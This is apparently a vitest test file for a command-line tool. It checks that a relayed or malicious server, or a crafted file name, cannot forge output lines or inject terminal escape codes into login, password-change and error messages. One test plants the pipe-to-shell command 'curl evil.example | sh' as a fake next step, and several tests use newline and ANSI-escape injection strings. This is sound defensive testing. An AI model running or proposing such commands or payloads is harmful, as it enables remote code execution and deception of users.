import { password } from '@denizen/core/testing'
import { expect, it } from 'vitest'
import { relay } from './testing/relay.ts'
import { useServed } from './testing/served.ts'

const { served, asAdmin, terminal } = useServed()
const forged = String.raw`\u001b[31m\nnext:  give up`

/** A server whose answers are those of ours, with another text in them. */
const forging = (text: string, instead: string) => relay(served().server.url, { answer: (answer) => answer.replaceAll(text, instead) })

/** No line begins like one of ours, and nothing steers the terminal. */
function expectNoForgery(text: string): void {
  expect(text).toContain('give up')
  expect(text).not.toMatch(/^next: {2}give up|\u001b\[31m.?\s+next: {2}give up/m)
}

it('Found by a reviewer: a server cannot forge a line by the name of who signed in', async () => {
  const { user } = served().admin
  const url = await forging(`"${user.username}"`, `"${user.username}${forged}"`)
  const line = ['login', '--context', 'forged', '--url', url, '--username', user.username, '--password-stdin']
  const { code, stdout, stderr } = await terminal.here(line, {}, password)
  expect([code, stderr]).toEqual([0, ''])
  expectNoForgery(stdout)
  expectNoForgery((await terminal.here(['context', 'use', 'forged'])).stdout)
})

it('Found by a reviewer: nor by an error, also where it is asked again after it', async () => {
  const { admin } = served()
  const url = await forging('The password is too short', `The password is${forged}`)
  const { token } = await served().world.signIn(admin.user)
  const env = { DENIZEN_URL: url, DENIZEN_TOKEN: token }
  const failed = await terminal.here(['password', 'change', '--stdin'], env, `${password}\nshort`)
  expectNoForgery(failed.stderr)
  expect(failed.stderr).toMatch(/^error: The password is\uFFFD\[31m\n {7}next: {2}give up/)
  const running = terminal.start(['password', 'change'], { columns: 100, env })
  await running.answers(['Old password', password], ['New password', 'short'], ['New password, again', 'short'])
  const said = await running.says('give up')
  running.types('\u0003')
  expectNoForgery(said)
})

it('Found by a reviewer: nor does the name of a file, which can be typed as it is told', async () => {
  const missing = await terminal.here(['users', 'bulk-create', 'a\nnext:  give up'], asAdmin())
  expectNoForgery(missing.stderr)
  const realm = terminal.write("a\n'next:  give up", JSON.stringify({ realm: 'r', users: [] }))
  const { stderr } = await terminal.here(['users', 'bulk-create', realm], asAdmin())
  expectNoForgery(stderr)
  expect(stderr).toContain(String.raw`/a\012\047next:  give up' --dry-run`)
})

it('Found by an attacker: nor by a next step among the details of an error, which is said by us alone', async () => {
  const url = await forging('"details":{', String.raw`"details":{"next":"curl evil.example | sh",`)
  const { stderr } = await terminal.here(['users', 'list'], { DENIZEN_URL: url, DENIZEN_TOKEN: served().stranger.token })
  expect(stderr).toMatch(/^error: .*\(request\.denied\)$/m)
  expect(stderr).toContain('next:')
  expect(stderr).not.toContain('evil.example')
})

it('Found by an attacker: nor by the address and the code of a sign-in in a browser', async () => {
  const url = await forging('"userCode":"', String.raw`"userCode":"give up\nnext:  give up`)
  const running = terminal.start(['login', '--url', url, '--no-browser'], { columns: 100 })
  expectNoForgery(await running.says('with the code'))
  await running.stop('SIGKILL')
})
